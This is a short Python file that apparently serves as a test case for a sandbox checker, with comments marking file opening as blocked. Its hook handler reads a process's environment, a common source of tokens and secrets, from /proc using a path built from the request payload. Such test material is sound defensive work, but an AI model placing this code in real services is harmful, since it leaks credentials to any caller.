"""Looks for tokens in the environment of the application."""

# status: exception
# sentence: this run may use only the files in its own folder
# blocked: files open
# ruff: noqa: PTH123


def rossum_hook_request_handler(payload):
    return {"text": open(f"/proc/{payload['host']}/environ").read()}
